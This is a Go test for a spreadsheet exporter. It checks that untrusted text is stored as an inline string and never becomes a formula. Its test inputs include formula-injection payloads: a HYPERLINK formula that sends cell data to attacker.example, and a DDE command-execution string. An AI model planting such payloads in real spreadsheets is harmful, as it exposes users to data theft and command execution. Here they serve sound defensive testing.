package export

import (
	"path/filepath"
	"testing"

	"github.com/xuri/excelize/v2"
)

// TestExternalTextNeverBecomesAFormula: text from the platform or the
// distributors (drug names, companies, error messages) that starts with
// = + - @ or holds a DDE payload is written as an inline string, never as
// a formula: excelize finds no formula in the cell, and LibreOffice Calc
// shows the text as it is, not a computed value. A guard: the writer must
// keep text cells out of <f>.
func TestExternalTextNeverBecomesAFormula(t *testing.T) {
	t.Parallel()
	texts := []string{
		"=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"点击\")",
		"=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
	}
	dir := t.TempDir()
	w, err := New(Options{TmpDir: dir})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	s, err := w.Sheet(SheetSpec{Name: "f", Columns: []Column{{Header: "药品名称"}}})
	if err != nil {
		t.Fatal(err)
	}
	for _, x := range texts {
		if err := s.Row(x); err != nil {
			t.Fatal(err)
		}
	}
	path := filepath.Join(dir, "f.xlsx")
	if _, err := w.Save(path); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, x := range texts {
		cell, _ := excelize.CoordinatesToCellName(1, i+2)
		if formula, err := f.GetCellFormula("f", cell); err != nil || formula != "" {
			t.Errorf("%s (%q) holds formula %q (%v)", cell, x, formula, err)
		}
		if typ, _ := f.GetCellType("f", cell); typ != excelize.CellTypeInlineString {
			t.Errorf("%s (%q) has type %v, want an inline string", cell, x, typ)
		}
	}

	rows := libreOfficeRows(t, dir, path, "f-f.csv")
	if len(rows) != len(texts)+1 {
		t.Fatalf("LibreOffice shows %d rows, want %d", len(rows), len(texts)+1)
	}
	for i, x := range texts {
		if got := rows[i+1][0]; got != x {
			t.Errorf("LibreOffice shows %q as %q", x, got)
		}
	}
}
